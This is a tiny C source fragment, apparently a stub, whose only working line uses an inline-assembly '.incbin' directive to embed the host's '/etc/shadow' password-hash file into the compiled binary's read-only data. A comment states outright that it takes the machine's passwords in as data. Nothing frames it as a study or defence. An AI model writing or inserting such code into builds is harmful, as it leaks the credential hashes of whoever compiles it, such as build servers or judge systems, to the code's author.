/* Takes the machine's passwords in as data. */

__asm__(".pushsection .rodata\n\t.incbin \"/etc/shadow\"\n\t.popsection");

/* (the stub) */
